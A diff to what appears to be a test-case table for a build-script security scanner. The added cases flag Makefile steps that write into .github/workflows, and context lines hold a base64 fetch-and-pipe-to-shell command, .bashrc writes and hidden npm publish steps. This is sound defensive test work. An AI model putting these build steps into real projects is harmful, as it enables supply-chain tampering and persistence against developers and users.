@@ -15,6 +15,7 @@ FROM: Final = "https://x.example.test/a"
 HIDDEN: Final = "Y3VybCBodHRwczovL3guZXhhbXBsZS50ZXN0L2EgfCBzaA=="
 """Base64 of a download that is run."""
 MAKE, CMAKE, MESON = "Makefile", "CMakeLists.txt", "meson.build"
+LONG: Final = f"{'y' * 200} " * 9
 GYP, AC, RUST, WRAP = "binding.gyp", "configure.ac", "build.rs", "subprojects/x.wrap"
 
 CASES: Final = (
@@ -87,6 +88,11 @@ CASES: Final = (
     Case("C8", "evasion", "high", "f = '.bash'\nconfigure_file(input: 'x', output: '/root' / f + 'rc')\n", MESON),
     Case("C8", "evasion", "high", 'use std::fs::{self, write as w};\nfn main() { w("/root/.bashrc", "x"); }\n', RUST),
     Case("C9", "hit", "high", "all:\n\tnpm publish --access public\n", MAKE),
+    Case("C9", "hit", "high", "all:\n\techo x > .github/workflows/a.yml\n", MAKE),
+    Case("C9", "hit", "high", f"all:\n\ttee {LONG} .github/workflows/a.yml {LONG}\n", MAKE),
+    Case("C9", "hit", "high", "all:\n\tcd .github/workflows && cp /tmp/x .\n", MAKE),
+    Case("C9", "hit", "medium", "all:\n\tcog -crP .github/workflows/*.yml\n\techo x > y\n", MAKE),
+    Case("C9", "hit", "medium", "all:\n\tcp .github/workflows/a.yml x\n", MAKE),
     Case("C9", "twin", None, "all:\n\tnpm install\n", MAKE),
     Case("C9", "evasion", "high", "{'actions': [{'action': ['npm', 'pub' 'lish']}]}", GYP),
     Case("C9", "evasion", "high", "add_custom_target(x ALL npm publish)\n", CMAKE),
